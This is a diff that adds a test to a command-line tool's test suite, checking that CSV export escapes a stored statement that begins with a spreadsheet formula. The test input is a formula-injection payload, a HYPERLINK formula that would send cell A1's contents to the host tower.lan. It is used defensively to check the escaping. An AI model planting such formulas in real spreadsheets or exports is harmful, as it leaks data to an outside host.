@@ -698,6 +698,12 @@ def test_export_json_lines(filled: tuple[Cli, Path], tmp_path: Path) -> None:
     assert [one.name for one in tmp_path.iterdir()] == ["all.jsonl"]  # no part is left
 
 
+def test_a_table_holds_no_formula(cli: Cli) -> None:
+    cli("remember", '=HYPERLINK("http://tower.lan/?"&A1) is what I keep in the first cell')
+    (row,) = csv.DictReader(io.StringIO(cli("export", "--format", "csv-facts").out))
+    assert row["statement"].startswith("'=HYPERLINK(")
+
+
 def test_export_csv(filled: tuple[Cli, Path], tmp_path: Path) -> None:
     cli, _ = filled
     rows = list(csv.DictReader(io.StringIO(cli("export", "--format", "csv-facts").out)))
